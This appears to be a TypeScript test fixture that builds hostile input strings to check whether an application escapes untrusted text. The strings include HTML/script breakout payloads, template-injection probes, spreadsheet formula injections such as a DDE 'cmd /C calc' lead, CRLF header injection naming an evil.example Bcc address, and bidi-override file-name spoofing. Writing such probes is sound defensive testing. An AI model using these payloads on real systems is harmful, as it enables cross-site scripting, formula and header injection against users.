/**
 * What nobody hands in with good intent. Each text breaks out of elements, attributes, scripts, comments, templates and quoted
 * cells, if anything lets it; what it would leave behind there begins with `hx`.
 */
const core = [
  `"'><hx-el hx-at="1">`,
  '</textarea></title></script></style><script>hx()</script><img src=x onerror=hx()>',
  '<!-- hx -->]]><svg onload=hx()>',
  '<%= 90017*91 %>{{90017*91}}#{90017*91}$',
].join('');

/** What a template would have made of it. */
export const computed = '8191547';

/** How a cell must not begin. */
const leads = ['=cmd|" /C calc"!A0 ', '@SUM(1) ', '+1+1 ', '-1+1 ', '＝1 ', '＠SUM(1) '];

/** Signs that end lines, turn text round or break files, and words that no line holds. */
const tails = [
  '\u202Egnp.exe',
  '\u0001\u0008\u000B\u001B[31m\u007F',
  '\r\nSet-Cookie: hx=1\r\nBcc: hx@evil.example\r\n\r\nhx',
  'W'.repeat(300),
  '\u2028\u2029\uFEFF\uFFFE',
  '\nEND:VEVENT\nhx:1',
  '&lt;hx&gt;&#60;hx&#62;',
];

/** The hostile text of one column; the mark says later where it came from. */
export function hostileText(index: number): string {
  return `${leads[index % leads.length]}${markOf(index)}${core}${tails[(index * 3) % tails.length]}`;
}

/** By which the text of a column is known in what is given out. */
export function markOf(index: number): string {
  return `hxq${index}z`;
}

/** The marks in a text. */
export function marksIn(text: string): number[] {
  return [...text.matchAll(/hxq(\d+)z/g)].map(([, index]) => Number(index));
}

/** Whether a stored string is prose and not a key, number, date or address of ours. */
export function isProse(text: string): boolean {
  return /[^\w.:@/+|#,;=%-]/.test(text) && !/\{(year|serial)/.test(text);
}

/** Shorter, for criteria with a thousand texts. */
function hostileWord(index: number): string {
  return `${leads[index % leads.length]}${markOf(index)}"'><hx-el hx-at="1"></textarea></script><script>hx()</script><%= 90017*91 %>\u202E\u0001`;
}

/** The same value with hostile text wherever prose stands; a half of a surrogate pair cannot stand in a column, but in JSON. */
export function withHostileProse(value: unknown, index: number, key = ''): unknown {
  // Units of time are written with a blank, too.
  if (typeof value === 'string') return isProse(value) && key !== 'unit' ? `${hostileWord(index)}\uD800` : value;
  // Of long lists some: criteria have a hundred clauses of a kind, and pages with all of them would only take time.
  if (Array.isArray(value))
    return value.map((one, place) => (value.length > 4 && place % 4 > 0 ? one : withHostileProse(one, index)));
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(Object.entries(value).map(([name, one]) => [name, withHostileProse(one, index, name)]));
}
